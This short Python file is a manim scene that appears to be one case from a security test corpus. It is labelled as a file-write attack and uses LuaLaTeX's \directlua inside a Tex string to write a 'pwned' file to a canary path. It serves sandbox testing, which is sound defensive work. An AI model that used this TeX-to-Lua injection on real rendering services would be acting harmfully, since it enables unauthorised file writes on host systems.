# ATTACK: file-write
# SUCCESS: Lua inside LuaLaTeX writes a file
# ORACLE: generic, as for the other corpus
from manim import *

class S(Scene):
    def construct(self):
        T = TexTemplate(tex_compiler="lualatex", output_format=".pdf")
        Tex(r"\directlua{local f=io.open('@CANARY@/pwned','w'); if f then f:write('x') f:close() end}a", tex_template=T)
        self.add(Dot()); self.wait(0.1)
